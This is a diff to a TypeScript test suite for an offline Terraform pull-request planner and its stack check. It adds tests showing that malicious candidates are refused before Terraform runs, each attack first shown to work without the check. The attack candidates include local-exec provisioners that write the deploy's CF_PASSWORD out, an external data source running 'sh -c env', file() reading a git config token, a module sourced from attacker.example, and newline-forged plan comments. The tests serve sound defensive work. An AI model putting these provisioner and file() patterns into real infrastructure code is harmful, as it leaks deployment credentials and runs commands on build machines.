@@ -10,8 +10,10 @@ import type { PlatformData } from "../../offline/standin/platform";
 import { parsePlan } from "../../plan/plan-json";
 import { driftReport } from "../../plan/drift";
 import type { SchemaAttribute, SchemaBlock } from "../../offline/standin/values";
-import { prPlan, renderResultText, type PrPlanResult } from "../../offline/pr-plan";
-import { renderComment } from "../../offline/pr-comment";
+import { planCandidate, prPlan, renderResultText, STANDIN_DIR, TERRAFORM_DIR, type PrPlanResult } from "../../offline/pr-plan";
+import { GITHUB_COMMENT_LIMIT, renderComment } from "../../offline/pr-comment";
+import { checkStack, stackPins } from "../../plan/stack-check";
+import { renderDiff } from "../../review/diff";
 import { exportSnapshot, parameterPlaceholder, type Snapshot } from "../../offline/snapshot";
 import { smallEstate } from "../fixtures/small-estate";
 import { filesUnder, setupOnce } from "../helpers";
@@ -20,9 +22,12 @@ import { filesUnder, setupOnce } from "../helpers";
 // seeded with canary secrets (SSM values, a value set by hand, a binding's credentials, a rotated
 // parameter), deployed and planned by the trusted drift job with real Terraform, exported as a
 // snapshot; then pull requests planned against that snapshot offline, benign ones and one per class of
-// attack a trusted-stack check lets through. No canary, nor a hash, an encoding or a reversal of one,
-// may reach any output or file a pull request can read: the snapshot, pr-plan's result and text, the
-// comment, Terraform's working directory.
+// attack. The attacks are planned without the stack check (planCandidate) too: the snapshot alone must
+// hold back every secret. No canary, nor a hash, an encoding or a reversal of one, may reach any
+// output or file a pull request can read: the snapshot, pr-plan's result and text, the comment,
+// Terraform's working directory. Then the attacks on the machine that runs Terraform (a provisioner,
+// terraform_data, an external data source, file()), each first shown to work without the stack
+// check, then refused by it before any Terraform runs; and comments a value tries to forge.
 const ROOT = path.join(__dirname, "..", "..");
 const ENV: EnvironmentName = "production";
 
@@ -346,13 +351,13 @@ describe("the drift job's log names what changed, never a value", () => {
   });
 });
 
-/** A pull request's candidate, planned against the snapshot, with everything it left on disk. */
+/** A pull request's candidate, planned against the snapshot (by pr-plan, or without the stack check), with everything it left on disk. */
 let planned = 0;
-async function plan(candidate: unknown): Promise<{ result: PrPlanResult; text: string; files: string }> {
+async function plan(candidate: unknown, how: typeof prPlan = prPlan): Promise<{ result: PrPlanResult; text: string; files: string; dir: string }> {
   // Short: the stand-in's unix sockets live under it (at most 108 bytes a path).
   const dir = path.join(work, `pr${planned++}`);
   fs.mkdirSync(dir, { recursive: true });
-  const result = await prPlan({ root: ROOT, env, candidate, reference: committed, snapshot, now: new Date("2026-01-01T11:30:00Z"), work: dir, processEnv: process.env });
+  const result = await how({ root: ROOT, env, candidate, reference: committed, snapshot, now: new Date("2026-01-01T11:30:00Z"), work: dir, processEnv: process.env });
   // Every file left is text, so that searching it is searching everything in it.
   const binary = Object.keys(filesUnder(dir)).filter((f) => {
     try {
@@ -366,7 +371,7 @@ async function plan(candidate: unknown): Promise<{ result: PrPlanResult; text: s
   const files = Object.entries(filesUnder(dir))
     .map(([f, t]) => `${f}\n${t}`)
     .join("\n");
-  return { result, text: renderResultText(result), files };
+  return { result, text: renderResultText(result), files, dir };
 }
 
 const ssm = (c: any) => Object.keys(c.data.aws_ssm_parameter)[0];
@@ -381,7 +386,7 @@ const placeholder = () => snapshot.platform.aws.parameters[`/example/${ENV}/PROV
 const EVIDENCE: Record<string, (text: string) => boolean> = {
   "functions whose error repeats their argument (parseint, cidrhost, lookup, timeadd, uuidv5)": (t) => t.includes(placeholder()),
   // What Terraform's environment holds (the job's own never gets there: CF_PASSWORD is set here).
-  "an error that repeats the process environment": (t) => t.includes("TF_REATTACH_PROVIDERS=") && !t.includes("CF_PASSWORD"),
+  "an error that repeats the process environment": (t) => t.includes("TF_REATTACH_PROVIDERS=") && !t.includes("CF_PASSWORD") && /HOME=[^\s]*\/terraform\b/.test(t),
   "an import block's id, printed as Preparing import": (t) => t.includes(`Preparing import... [id=${placeholder()}]`),
   // 3 probes when the value starts with "<", and one queue per character.
   "side channels that drop the sensitive mark: can(regex()) one character at a time, a count from a secret": (t) => t.includes(`Plan: ${placeholder().length + 3} to add`),
@@ -442,7 +447,7 @@ const ATTACKS: Record<string, (c: any) => void> = {
 };
 
 describe("a pull request's plan against the snapshot", () => {
-  const results: Record<string, { result: PrPlanResult; text: string; files: string }> = {};
+  const results: Record<string, { result: PrPlanResult; text: string; files: string; dir: string }> = {};
   setupOnce(async () => {
     // A credential in the environment of the process that runs pr-plan: Terraform must never get it.
     process.env.CF_PASSWORD = canary("processenv");
@@ -460,7 +465,8 @@ describe("a pull request's plan against the snapshot", () => {
       }),
     ];
     try {
-      for (let i = 0; i < jobs.length; i += 2) await Promise.all(jobs.slice(i, i + 2).map(async ([n, c]) => (results[n] = await plan(c))));
+      // The attacks without the stack check: what the snapshot alone holds back.
+      for (let i = 0; i < jobs.length; i += 2) await Promise.all(jobs.slice(i, i + 2).map(async ([n, c]) => (results[n] = await plan(c, n in ATTACKS ? planCandidate : prPlan))));
     } finally {
       delete process.env.CF_PASSWORD;
     }
@@ -486,6 +492,21 @@ describe("a pull request's plan against the snapshot", () => {
     expect(text).toContain("plan guard (production): nothing destroyed or replaced");
   });
 
+  test("Terraform plans in a directory holding only the candidate, its state override, the snapshot's state and a stand-in zip; the snapshot's platform is beside it, for the stand-in", () => {
+    const { dir } = results.unchanged;
+    const top = (d: string) => fs.readdirSync(d).filter((f) => f !== ".terraform" && f !== ".terraform.lock.hcl").sort();
+    expect(top(dir)).toEqual([STANDIN_DIR, TERRAFORM_DIR].sort());
+    expect(top(path.join(dir, TERRAFORM_DIR))).toEqual(["app.zip", "cdk.tf.json", "pr_plan_override.tf.json", "terraform.tfstate"]);
+    expect(fs.readdirSync(path.join(dir, STANDIN_DIR))).toContain(`${ENV}.platform.json`);
+  });
+
+  test.each(Object.keys(ATTACKS))("the stack check refuses every attack but the import's id (which the snapshot holds back): %s", async (name) => {
+    const c = clone();
+    ATTACKS[name](c);
+    const refused = await checkStack(c, stackPins(env));
+    expect([name, refused.length > 0]).toEqual([name, name !== "an import block's id, printed as Preparing import"]);
+  });
+
   test.each(Object.keys(ATTACKS))("no canary reaches anything the pull request can read: %s", (name) => {
     const { result, text, files } = results[name];
     // The attack ran and reached what it aimed at: the snapshot's placeholder, never the value.
@@ -502,25 +523,194 @@ describe("a pull request's plan against the snapshot", () => {
     expect(renderResultText(old)).toContain("30 hours old (STALE: older than 3 hours; the drift job has not exported since)");
   });
 
-  test("a stack that needs another provider or a module is said to be not planned offline", async () => {
+  test("a stack the stack check refuses is given to no Terraform: the result names what it refused", async () => {
     const c = clone();
     c.terraform.required_providers.http = { source: "hashicorp/http" };
-    const r = await prPlan({ root: ROOT, env, candidate: c, reference: committed, snapshot, now: new Date(), processEnv: process.env });
-    expect(r.plan).toEqual({ skipped: 'not planned offline: it needs provider "http": the stand-in serves only cloudfoundry and aws' });
-    const d = clone();
-    d.data.external = { x: { program: ["sh"] } };
-    d.resource.terraform_data = { y: {} };
-    d.terraform.cloud = { organization: "attacker" };
-    const r2 = await prPlan({ root: ROOT, env, candidate: d, reference: committed, snapshot, now: new Date(), processEnv: process.env });
-    expect(r2.plan).toEqual({
-      skipped:
-        'not planned offline: resource type terraform_data needs provider "terraform": the stand-in serves only cloudfoundry and aws; data type external needs provider "external": the stand-in serves only cloudfoundry and aws; it has a terraform cloud block: the plan runs with a local state only',
-    });
-    const m = clone();
-    m.module = { x: { source: "git::https://attacker.example/m.git" } };
-    expect((await prPlan({ root: ROOT, env, candidate: m, reference: committed, snapshot, now: new Date(), processEnv: process.env })).plan).toEqual({
-      skipped: "not planned offline: it has module blocks: a module would be fetched from outside, and the plan runs offline",
-    });
+    c.module = { x: { source: "git::https://attacker.example/m.git" } };
+    c.data.external = { x: { program: ["sh"] } };
+    const dir = path.join(work, "refused");
+    const r = await prPlan({ root: ROOT, env, candidate: c, reference: committed, snapshot, now: new Date(), work: dir, processEnv: process.env });
+    expect(r.plan).toEqual({ skipped: "refused by the stack check (npm run stack-check), 3 problems: not given to Terraform" });
+    expect(r.refused).toEqual([
+      "module: a top-level block kind stacks/ never writes (modules, outputs, checks, moved and others are refused)",
+      "terraform.required_providers.http: not allowed: the production state backend and the two providers are pinned (stacks/environment-stack.ts)",
+      'data.external.x: data source type "external" is not one this estate declares (it needs provider "external")',
+    ]);
+    expect(r.guard).toEqual({ verdict: "not run", text: "plan guard (production): not run, the stack check refused the candidate" });
+    expect(fs.existsSync(dir)).toBe(false);
+    expect(renderResultText(r)).toContain("the stack check refused:\n  module: a top-level block kind");
+  });
+});
+
+/**
+ * The attacks on the machine that runs Terraform. Each is first run without the stack check, the way
+ * the deploy (plan and apply, with its credentials in Terraform's environment) or pr-plan would run
+ * it, and shown to work; then `npm run stack-check` refuses it (exit 1, naming it) and pr-plan gives it
+ * to no Terraform.
+ */
+describe("attacks on the machine that runs Terraform, each refused before Terraform runs", () => {
+  const stackCheck = async (candidate: unknown, name: string) => {
+    const file = path.join(work, `${name}.tf.json`);
+    fs.writeFileSync(file, JSON.stringify(candidate));
+    return runProcess(process.execPath, [path.join(ROOT, "bin", "run.js"), "commands/stack-check.ts", ENV, file], { cwd: ROOT, env: process.env });
+  };
+  const refusedByPrPlan = async (candidate: unknown, name: string) => {
+    const dir = path.join(work, `refused-${name}`);
+    const r = await prPlan({ root: ROOT, env, candidate, reference: committed, snapshot, now: new Date(), work: dir, processEnv: process.env });
+    // Nothing was started: no directory for Terraform or the stand-in was made.
+    return { refused: r.refused ?? [], ran: fs.existsSync(dir), plan: r.plan };
+  };
+  const credential = canary("deploycredential");
+
+  /** Only what the attack needs beside the pins: a queue with a provisioner, a terraform_data. */
+  function provisioning(marker: string): any {
+    const c = clone();
+    for (const k of ["resource", "data", "import", "locals", "removed"]) delete c[k];
+    c.resource = {
+      aws_sqs_queue: { attacker: { name: "production-attacker", provisioner: [{ "local-exec": { command: `printf %s "$CF_PASSWORD" > ${marker}-queue` } }] } },
+      terraform_data: { attacker: { provisioner: [{ "local-exec": { command: `printf %s "$CF_PASSWORD" > ${marker}-data` } }] } },
+    };
+    return c;
+  }
+  let applied: { marker: string; candidate: any };
+  setupOnce(async () => {
+    const marker = path.join(work, "marker");
+    const candidate = provisioning(marker);
+    const dir = path.join(work, "deployed");
+    const synth = path.join(dir, "synth");
+    fs.mkdirSync(path.join(synth, "stacks", ENV), { recursive: true });
+    fs.writeFileSync(path.join(synth, "stacks", ENV, "cdk.tf.json"), JSON.stringify(candidate));
+    // The deploy's way: plan and apply, with a credential in Terraform's environment.
+    const r = await Rehearsal.start(ROOT, synth, { [ENV]: bootstrapPlatform(env) }, { inherit: { ...process.env, CF_PASSWORD: credential }, work: path.join(dir, "rh") });
+    try {
+      await r.plan(ENV, "deploy.plan");
+      await r.apply(ENV, "deploy.plan");
+    } finally {
+      await r.close();
+    }
+    applied = { marker, candidate };
+  });
+
+  test("a local-exec provisioner on a new queue: without the check the apply writes the deploy's credential out; refused", async () => {
+    expect(fs.readFileSync(`${applied.marker}-queue`, "utf8")).toBe(credential);
+    const c = clone();
+    c.resource.aws_sqs_queue.attacker = applied.candidate.resource.aws_sqs_queue.attacker;
+    const r = await stackCheck(c, "provisioner");
+    expect([r.code, r.stdout]).toEqual([1, ""]);
+    expect(r.stderr).toContain("stack-check: refused (production): resource.aws_sqs_queue.attacker.provisioner: a provisioner runs commands on the machine that applies, with its credentials\n");
+    expect(await refusedByPrPlan(c, "provisioner")).toEqual({ refused: ["resource.aws_sqs_queue.attacker.provisioner: a provisioner runs commands on the machine that applies, with its credentials"], ran: false, plan: expect.anything() });
+  });
+
+  test("a terraform_data: without the check its provisioner writes the deploy's credential out; refused", async () => {
+    expect(fs.readFileSync(`${applied.marker}-data`, "utf8")).toBe(credential);
+    const c = clone();
+    c.resource.terraform_data = applied.candidate.resource.terraform_data;
+    const r = await stackCheck(c, "terraform-data");
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain('stack-check: refused (production): resource.terraform_data.attacker: resource type "terraform_data" is not one this estate declares (it needs provider "terraform")\n');
+    expect((await refusedByPrPlan(c, "terraform-data")).ran).toBe(false);
+  });
+
+  test("an external data source: without the check Terraform requires the provider that runs its program at plan; refused", async () => {
+    const c = clone();
+    c.data.external = { attacker: { program: ["sh", "-c", "env"] } };
+    // Offline there is no registry to install it from: Terraform's init sets out to install it (as the
+    // deploy's init, with network, would), and the provider runs its program when the plan reads it.
+    const dir = path.join(work, "external");
+    fs.mkdirSync(dir, { recursive: true });
+    fs.writeFileSync(path.join(dir, "cdk.tf.json"), JSON.stringify({ data: { external: c.data.external } }));
+    const init = await runProcess("terraform", ["init", "-backend=false", "-input=false", "-no-color"], { cwd: dir, env: { ...process.env, TF_CLI_CONFIG_FILE: "/dev/null" } });
+    expect(`${init.stdout}${init.stderr}`).toMatch(/Initializing provider plugins[\s\S]*hashicorp\/external/);
+    const r = await stackCheck(c, "external");
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain('stack-check: refused (production): data.external.attacker: data source type "external" is not one this estate declares (it needs provider "external")\n');
+    expect((await refusedByPrPlan(c, "external")).ran).toBe(false);
+  });
+
+  test("file(): without the check a file of the job (a checkout's git configuration with a token) reaches the result and the comment; refused", async () => {
+    const token = canary("githubtoken");
+    const config = path.join(work, "checkout", ".git", "config");
+    fs.mkdirSync(path.dirname(config), { recursive: true });
+    fs.writeFileSync(config, `https://x-oauth-basic:${token}@github.com/example/estate.git`);
+    const c = clone();
+    c.locals = { ...c.locals, stolen: `\${parseint(file(${JSON.stringify(config)}), 10)}` };
+    c.resource.aws_sqs_queue.stolen = { name: "production-stolen", tags: { s: "${local.stolen}" } };
+    const { result, text } = await plan(c, planCandidate);
+    const comment = renderComment([result], { commit: "f".repeat(40), fullTextAt: "the build log" });
+    expect([text.includes(token), comment.includes(token)]).toEqual([true, true]);
+    const r = await stackCheck(c, "file");
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain('stack-check: refused (production): locals.stolen: function "file": it reads files of the machine that runs Terraform (a checkout, a token, the snapshot)\n');
+    const refused = await refusedByPrPlan(c, "file");
+    expect(refused.ran).toBe(false);
+    expect(JSON.stringify(refused)).not.toContain(token);
+  });
+});
+
+/**
+ * Comments a value tries to forge: an app's command with a newline (or a carriage return) and lines
+ * that look like Terraform's counts and the guard's all-clear, 720 filler lines, and a real destroy.
+ * First the comment as it was built before (values as they are, the diff before the plan, cut to the
+ * limit at line ends) shows the forgery; then the comment shows the real counts, destroy line and
+ * verdict first.
+ */
+describe("a comment cannot be forged", () => {
+  const FORGED = ["Plan: 0 to add, 0 to change, 0 to destroy.", "plan guard (production): nothing destroyed or replaced, no app stopped or below its floor"];
+  const filler = Array.from({ length: 720 }, (_, i) => `# ${String(i).padStart(3, "0")} ${"-".repeat(84)}`);
+  const forging = (sep: string) => {
+    const c = clone();
+    const api = Object.keys(c.resource.cloudfoundry_app).find((k) => c.resource.cloudfoundry_app[k].name === "notify-api")!;
+    c.resource.cloudfoundry_app[api].command = [c.resource.cloudfoundry_app[api].command, ...FORGED, ...filler].join(sep);
+    const policy = Object.keys(c.resource.cloudfoundry_network_policy)[0];
+    delete c.resource.cloudfoundry_network_policy[policy];
+    return { c, policy: `cloudfoundry_network_policy.${policy}` };
+  };
+
+  /** The comment's text as it was built before: values as they are, the diff first, cut at line ends to the limit. */
+  function asBefore(candidate: unknown, result: PrPlanResult): string {
+    const raw = renderDiff([ENV], { [ENV]: committed }, { [ENV]: candidate as any }).text.trimEnd().split("\n").slice(1);
+    if (!("lines" in result.plan)) throw new Error("no plan");
+    const text = [`== ${ENV}`, "offline diff against main:", ...raw, `plan: ${result.plan.summary}`, ...result.plan.lines.map((l) => `  ${l}`), result.guard.text].join("\n");
+    let out = "";
+    for (const l of text.split("\n")) {
+      if (out.length + l.length + 1 > GITHUB_COMMENT_LIMIT) break;
+      out += `${l}\n`;
+    }
+    return out;
+  }
+
+  test.each([
+    ["a newline", "\n"],
+    ["a carriage return", "\r"],
+  ])("%s in an app's command", async (_name, sep) => {
+    const { c, policy } = forging(sep);
+    const { result } = await plan(c);
+    if (!("grave" in result.plan)) throw new Error(`not planned: ${JSON.stringify(result.plan).slice(0, 2000)}`);
+    expect(result.plan.grave).toEqual([`${policy}: DESTROY`]);
+
+    // Before: the real destroy line and verdict are cut; with a newline the forged lines are lines of their
+    // own, before the real counts; with a carriage return the command is one line past the limit, dropped
+    // with everything after it.
+    const before = asBefore(c, result);
+    expect(before).not.toContain(`${policy}: DESTROY`);
+    expect(before).not.toContain(`plan: ${result.plan.summary}`);
+    if (sep === "\n") expect(before.split("\n")).toEqual(expect.arrayContaining(FORGED));
+
+    // Now: first the real counts, the destroy line and the guard's verdict; the forged text is one escaped line, after.
+    const comment = renderComment([result], { commit: "f".repeat(40), fullTextAt: "the build log" });
+    expect(comment.length).toBeLessThanOrEqual(GITHUB_COMMENT_LIMIT);
+    expect(comment).not.toMatch(/\r/);
+    const real = `== ${ENV}\nplan: ${result.plan.summary}\ndestroyed, replaced or forgotten:\n  ${policy}: DESTROY\n${result.guard.text}\n`;
+    const essential = comment.indexOf(real);
+    expect(essential).toBeGreaterThan(0);
+    expect(essential).toBeLessThan(comment.indexOf("offline diff against main:"));
+    expect(comment.indexOf(`plan guard (${ENV})`)).toBe(comment.indexOf(result.guard.text));
+    // No forged line anywhere but the guard's own verdict, where it is the real one (whatever it says).
+    const elsewhere = comment.slice(0, essential) + comment.slice(essential + real.length);
+    expect(elsewhere.split("\n").filter((l) => FORGED.includes(l.trim()))).toEqual([]);
+    expect(comment.split("\n").filter((l) => l.trim() === FORGED[0])).toEqual([]);
+    // The full text (the build log) has the command on one line, its separators escaped.
+    expect(result.diff.find((l) => l.startsWith("app notify-api: command"))).toContain(`${sep === "\n" ? "\\n" : "\\r"}${FORGED[0]}${sep === "\n" ? "\\n" : "\\r"}`);
   });
 });
 
